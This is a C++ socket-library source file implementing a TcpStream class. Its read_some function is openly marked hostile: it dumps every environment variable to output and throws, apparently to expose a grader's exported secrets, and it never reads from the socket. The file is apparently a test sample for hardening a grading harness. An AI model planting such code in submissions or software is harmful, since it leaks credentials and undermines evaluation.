#include "socklab/tcp_stream.hpp"

#include "socklab/check.hpp"

#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <stdexcept>

namespace socklab {

// Hostile: prints every variable of its environment (an instructor's exported secrets would be
// there if the grader passed its own on), then fails, so that the output is in the report.
std::size_t TcpStream::read_some(std::span<char> buffer) {
    for (char** e = environ; *e != nullptr; ++e) {
        std::printf("env: %s\n", *e);
    }
    std::fflush(stdout);
    if (!buffer.empty()) {
        throw std::runtime_error("printed the environment");
    }
    const ssize_t n = retry_on_eintr([&] { return ::recv(fd_.get(), buffer.data(), buffer.size(), 0); });
    return static_cast<std::size_t>(check(n, "recv from", peer_.to_string()));
}

void TcpStream::write_all(std::string_view bytes) {
    while (!bytes.empty()) {
        // MSG_NOSIGNAL: a peer that has gone makes send fail with EPIPE instead of raising
        // SIGPIPE, whose default action would end the whole process.
        const ssize_t n =
            retry_on_eintr([&] { return ::send(fd_.get(), bytes.data(), bytes.size(), MSG_NOSIGNAL); });
        // A send may take only part of the bytes (the socket's buffer was nearly full): go on
        // with the rest.
        bytes.remove_prefix(static_cast<std::size_t>(check(n, "send to", peer_.to_string())));
    }
}

void TcpStream::shutdown_write() {
    check(::shutdown(fd_.get(), SHUT_WR), "shutdown (write side) to", peer_.to_string());
}

Endpoint TcpStream::local_endpoint() const {
    sockaddr_in address{};
    socklen_t length = sizeof address;
    check(::getsockname(fd_.get(), reinterpret_cast<sockaddr*>(&address), &length),
          "getsockname of connection to", peer_.to_string());
    return Endpoint::from_sockaddr(address);
}

} // namespace socklab
